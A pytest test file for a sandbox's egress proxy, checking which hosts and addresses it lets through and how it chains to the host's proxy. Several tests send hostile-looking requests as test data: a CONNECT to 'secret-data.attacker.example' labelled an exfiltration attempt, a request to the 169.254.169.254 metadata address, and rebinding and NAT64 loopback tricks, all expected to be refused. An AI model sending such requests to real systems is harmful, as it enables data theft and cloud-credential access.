"""The egress proxy and its policy: which addresses and hosts pass, what the host's pip
and npm configuration allows, and the real proxy on a real Unix socket relaying to real
loopback servers (the address check is relaxed for those: loopback is what it refuses)."""

from __future__ import annotations

import asyncio
import base64
import contextlib
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path

import pytest

from bot.sandbox.egress import EgressProxy
from bot.sandbox.egress_policy import (
    EgressPolicy,
    HostRule,
    Upstream,
    blocked_reason,
    build_policy,
    is_local_address,
    parse_rule,
    read_policy,
)

# --- the policy (pure) ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("address", "why"),
    [
        ("127.0.0.1", "loopback"),
        ("127.8.9.10", "loopback"),
        ("::1", "loopback"),
        ("::ffff:127.0.0.1", "loopback"),
        ("169.254.169.254", "link-local"),
        ("fe80::1%eth0", "link-local"),
        ("10.255.255.53", "private"),
        ("172.16.0.1", "private"),
        ("192.168.1.1", "private"),
        ("100.100.100.200", "private"),  # shared address space (a cloud's metadata service)
        ("fd00:ec2::254", "private"),  # unique-local (a cloud's IPv6 metadata service)
        ("0.0.0.0", "private"),  # noqa: S104 (an address refused, not bound)
        ("224.0.0.1", "private"),
    ],
)
def test_loopback_link_local_private_and_reserved_addresses_are_refused(
    address: str, why: str
) -> None:
    reason = blocked_reason(address)
    assert reason is not None and why in reason


@pytest.mark.parametrize("address", ["8.8.8.8", "151.101.0.223", "2a04:4e42::223", "203.0.113.80"])
def test_public_addresses_pass(address: str) -> None:
    """The documentation ranges count as public here: ``is_private`` would refuse them,
    and an index host may answer from one (it does on this machine)."""
    assert blocked_reason(address) is None


def test_the_hosts_own_addresses_are_known_without_sending_anything() -> None:
    assert is_local_address("127.0.0.1")
    assert not is_local_address("203.0.113.80")


def test_rules_match_hosts_and_ports() -> None:
    assert parse_rule("pypi.org") == HostRule("pypi.org")
    assert parse_rule("mirror.example:8443") == HostRule("mirror.example", 8443)
    assert parse_rule("*.corp.example") == HostRule("corp.example", None, subdomains=True)
    assert parse_rule("https://user:pw@Idx.Example/simple") == HostRule("idx.example")
    assert HostRule("pypi.org").matches("PyPI.org.", 443)
    assert not HostRule("pypi.org").matches("pypi.org", 22)
    assert not HostRule("pypi.org").matches("evilpypi.org", 443)
    assert HostRule("corp.example", subdomains=True).matches("a.b.corp.example", 80)
    assert not HostRule("corp.example", subdomains=True).matches("corp.example.evil", 80)
    assert HostRule("*").matches("anything.example", 443)
    for bad in ("", "a b", "x:99999", "*foo", "a/b"):
        with pytest.raises(ValueError, match=r"host|port"):
            parse_rule(bad)


def test_the_policy_comes_from_the_hosts_pip_and_npm_configuration(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".config" / "pip").mkdir(parents=True)
    (home / ".config" / "pip" / "pip.conf").write_text(
        "[global]\nindex-url = https://mirror.example/simple\n"
        "extra-index-url = file:///opt/pypi/simple http://devpi.example:3141/root/pypi\n"
        "find-links = /opt/wheels\n"
    )
    (home / ".npmrc").write_text(
        "registry=https://npm.example/\n@acme:registry=https://npm.acme.example:8080/\n"
        "//npm.example/:_authToken=secret\n"
    )
    environ = {
        "PIP_INDEX_URL": "https://other.example/simple",
        "HTTPS_PROXY": "http://user:pw@proxy.example:3128",
        "NO_PROXY": "internal.example,.corp",
    }
    policy = read_policy(environ, home, ["files.mirror.example"])
    for host, port in [
        ("pypi.org", 443), ("files.pythonhosted.org", 443), ("registry.npmjs.org", 443),
        ("mirror.example", 443), ("other.example", 443), ("devpi.example", 3141),
        ("npm.example", 443), ("npm.acme.example", 8080), ("files.mirror.example", 443),
    ]:  # fmt: skip
        assert policy.allowed(host, port), host
    assert not policy.allowed("devpi.example", 443)
    assert not policy.allowed("metadata.google.internal", 80)
    upstream = policy.upstream("pypi.org", tls=True)
    basic = "Basic " + base64.b64encode(b"user:pw").decode()
    assert upstream == Upstream("proxy.example", 3128, basic)
    assert policy.upstream("pypi.org", tls=False) is None  # no HTTP_PROXY
    assert policy.upstream("x.internal.example", tls=True) is None  # NO_PROXY
    assert policy.upstream("a.corp", tls=True) is None


# --- the proxy, for real, on a Unix socket -------------------------------------------------------


Handler = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


@pytest.fixture
async def tcp() -> AsyncIterator[Callable[[Handler], Awaitable[int]]]:
    """Start loopback TCP servers; their ports."""
    servers: list[asyncio.Server] = []

    async def start(handler: Handler) -> int:
        server = await asyncio.start_server(handler, "127.0.0.1", 0)
        servers.append(server)
        return int(server.sockets[0].getsockname()[1])

    yield start
    for server in servers:
        server.close()
        await server.wait_closed()


async def _echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while data := await reader.read(1024):
        writer.write(b"echo:" + data)
        await writer.drain()
    writer.close()


async def _exchange(sock: Path, request: bytes, then: bytes = b"") -> bytes:
    reader, writer = await asyncio.open_unix_connection(str(sock))
    try:
        writer.write(request)
        await writer.drain()
        head = await reader.readuntil(b"\r\n\r\n")
        if then:
            writer.write(then)
            await writer.drain()
            return head + await reader.read(1024)
        return head + await reader.read()
    finally:
        writer.close()


def _loopback_proxy(policy: EgressPolicy, **kw: object) -> EgressProxy:
    """A proxy whose address check lets the loopback test servers through."""
    return EgressProxy(policy, blocked=lambda _a: None, local=lambda _a: False, **kw)  # type: ignore[arg-type]


async def test_connect_tunnels_to_an_allowed_host_and_plain_http_is_forwarded(
    tmp_path: Path, tcp: Callable[[Handler], Awaitable[int]]
) -> None:
    seen: list[bytes] = []

    async def origin(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        seen.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        await writer.drain()
        writer.close()

    echo_port = await tcp(_echo)
    http_port = await tcp(origin)
    policy = build_policy([], [f"localhost:{echo_port}", f"localhost:{http_port}"], proxies={})
    proxy = _loopback_proxy(policy)
    async with proxy.serving(tmp_path / "p.sock") as sock:
        tunnel = await _exchange(sock, f"CONNECT localhost:{echo_port} HTTP/1.1\r\n\r\n".encode(),
                                 then=b"hello")  # fmt: skip
        request = (
            f"GET http://localhost:{http_port}/simple/x/?a=1 HTTP/1.1\r\nHost: localhost\r\n"
            "Proxy-Authorization: Basic c2VjcmV0\r\nProxy-Connection: keep-alive\r\n\r\n"
        )
        answer = await _exchange(sock, request.encode())
    assert tunnel.startswith(b"HTTP/1.1 200 Connection established\r\n\r\n")
    assert tunnel.endswith(b"echo:hello")
    assert answer.endswith(b"\r\n\r\nok")
    [head] = seen
    assert head.startswith(b"GET /simple/x/?a=1 HTTP/1.1\r\n")
    assert b"Proxy-" not in head and b"Connection: close" in head
    assert proxy.refusals == []


async def test_a_host_that_is_not_an_index_is_refused_without_a_lookup(tmp_path: Path) -> None:
    looked_up: list[str] = []

    async def resolve(host: str, port: int) -> list[str]:
        looked_up.append(host)
        return ["203.0.113.9"]

    proxy = EgressProxy(build_policy([], [], proxies={}), resolve=resolve)
    async with proxy.serving(tmp_path / "p.sock") as sock:
        leak = b"CONNECT secret-data.attacker.example:443 HTTP/1.1\r\n\r\n"
        exfiltrated = await _exchange(sock, leak)
        metadata = await _exchange(sock, b"GET http://169.254.169.254/latest/ HTTP/1.1\r\n\r\n")
        bad = await _exchange(sock, b"GET ftp://x/ HTTP/1.1\r\n\r\n")
    assert exfiltrated.startswith(b"HTTP/1.1 403 Forbidden")
    assert b"not a package index" in exfiltrated
    assert looked_up == []  # no name reaches the host's resolver: nothing leaks by DNS
    assert metadata.startswith(b"HTTP/1.1 403") and b"link-local" in metadata
    assert bad.startswith(b"HTTP/1.1 400")
    assert len(proxy.refusals) == 2


async def test_an_allowed_name_resolving_to_a_private_address_is_refused(tmp_path: Path) -> None:
    async def resolve(host: str, port: int) -> list[str]:
        return ["203.0.113.10", "10.0.0.7"]  # one bad answer is enough

    proxy = EgressProxy(build_policy([], ["rebind.example"], proxies={}), resolve=resolve)
    async with proxy.serving(tmp_path / "p.sock") as sock:
        answer = await _exchange(sock, b"CONNECT rebind.example:443 HTTP/1.1\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403") and b"10.0.0.7" in answer


async def test_the_hosts_proxy_is_chained_to(
    tmp_path: Path, tcp: Callable[[Handler], Awaitable[int]]
) -> None:
    asked: list[bytes] = []

    async def upstream(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(b"HTTP/1.1 200 Connection established\r\n\r\n")
        await _echo(reader, writer)

    port = await tcp(upstream)
    proxies = {"https": f"http://bot:pw@127.0.0.1:{port}"}
    policy = build_policy([], [], proxies=proxies)

    async def unresolvable(host: str, port: int) -> list[str]:
        raise OSError("no DNS here: the host's proxy resolves")

    async def public(host: str, port: int) -> list[str]:
        return ["203.0.113.80"]

    proxy = EgressProxy(policy, resolve=public)
    async with proxy.serving(tmp_path / "p.sock") as sock:
        answer = await _exchange(sock, b"CONNECT PyPI.org:443 HTTP/1.1\r\n\r\n", then=b"tls")
    assert answer.endswith(b"echo:tls")
    [head] = asked
    assert head.startswith(b"CONNECT pypi.org:443 HTTP/1.1\r\n")
    assert b"Proxy-Authorization: Basic " + base64.b64encode(b"bot:pw") in head
    # a name that does not resolve here is refused, not handed on for the host's proxy to read
    proxy = EgressProxy(policy, resolve=unresolvable)
    async with proxy.serving(tmp_path / "q.sock") as sock:
        answer = await _exchange(sock, b"CONNECT pypi.org:443 HTTP/1.1\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403") and b"cannot be resolved here" in answer
    assert len(asked) == 1


async def test_a_plain_request_reaches_the_hosts_proxy_rebuilt_from_the_checked_parts(
    tmp_path: Path, tcp: Callable[[Handler], Awaitable[int]]
) -> None:
    asked: list[bytes] = []

    async def upstream(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        await writer.drain()
        writer.close()

    port = await tcp(upstream)
    policy = build_policy([], ["idx.example:8080"], proxies={"http": f"http://127.0.0.1:{port}"})

    async def public(host: str, port: int) -> list[str]:
        return ["203.0.113.80"]

    proxy = EgressProxy(policy, resolve=public)
    request = (
        b"GET HTTP://Idx.Example:8080?x=1 HTTP/1.1\r\nHost: 127.0.0.1:9\r\n"
        b"Accept: text/html\r\n\r\n"
    )
    async with proxy.serving(tmp_path / "p.sock") as sock:
        answer = await _exchange(sock, request)
    assert answer.endswith(b"\r\n\r\nok")
    [head] = asked
    lines = head.decode().split("\r\n")
    assert lines[0] == "GET http://idx.example:8080/?x=1 HTTP/1.1"
    assert "Host: idx.example:8080" in lines and "Accept: text/html" in lines
    assert "127.0.0.1" not in head.decode()  # the client's Host went


@pytest.mark.parametrize(
    ("address", "inside"),
    [
        ("64:ff9b::7f00:1", "loopback"),  # NAT64
        ("64:ff9b::a9fe:a9fe", "link-local"),
        ("2002:7f00:1::1", "loopback"),  # 6to4
        ("2002:a00:1::", "private"),
        ("2001:0:4136:e378:8000:63bf:80ff:fffe", "loopback"),  # Teredo (client 127.0.0.1)
        ("64:ff9b:1::808:808", "private or reserved"),  # local-use NAT64
    ],
)
def test_ipv6_forms_that_carry_a_refused_ipv4_address_are_refused(
    address: str, inside: str
) -> None:
    reason = blocked_reason(address)
    assert reason is not None and inside in reason


def test_ipv6_forms_that_carry_a_public_ipv4_address_pass() -> None:
    assert blocked_reason("64:ff9b::808:808") is None
    assert blocked_reason("2002:808:808::1") is None


async def test_a_name_that_resolves_to_a_nat64_loopback_is_refused(tmp_path: Path) -> None:
    async def nat64(host: str, port: int) -> list[str]:
        return ["64:ff9b::7f00:1"]

    proxy = EgressProxy(build_policy([], ["idx.example"], proxies={}), resolve=nat64)
    async with proxy.serving(tmp_path / "p.sock") as sock:
        answer = await _exchange(sock, b"CONNECT idx.example:443 HTTP/1.1\r\n\r\n")
        literal = await _exchange(sock, b"GET http://[2002:7f00:1::]/ HTTP/1.1\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403") and b"127.0.0.1 inside 64:ff9b::7f00:1" in answer
    assert literal.startswith(b"HTTP/1.1 403") and b"loopback" in literal


async def test_connections_are_bounded_and_a_slow_lookup_blocks_no_other(
    tmp_path: Path, tcp: Callable[[Handler], Awaitable[int]]
) -> None:
    echo_port = await tcp(_echo)
    release = asyncio.Event()

    async def resolve(host: str, port: int) -> list[str]:
        if host == "slow.example":
            await release.wait()
        return ["127.0.0.1"]

    policy = build_policy([], ["slow.example", f"localhost:{echo_port}"], proxies={})
    proxy = _loopback_proxy(policy, resolve=resolve, max_connections=2)
    async with proxy.serving(tmp_path / "p.sock") as sock:
        slow = asyncio.create_task(_exchange(sock, b"CONNECT slow.example:443 HTTP/1.1\r\n\r\n"))
        await asyncio.sleep(0.1)
        fast = await asyncio.wait_for(
            _exchange(sock, f"CONNECT localhost:{echo_port} HTTP/1.1\r\n\r\n".encode(), then=b"x"),
            5,
        )
        assert fast.endswith(b"echo:x")  # served while the other look-up waits
        for _ in range(50):  # the tunnel's handler ends once both sides closed
            if proxy.open_connections == 1:
                break
            await asyncio.sleep(0.02)
        _, held = await asyncio.open_unix_connection(str(sock))  # the second of two
        await asyncio.sleep(0.1)
        over = await _exchange(sock, b"CONNECT slow.example:443 HTTP/1.1\r\n\r\n")
        assert over.startswith(b"HTTP/1.1 503")
        held.close()
        slow.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await slow
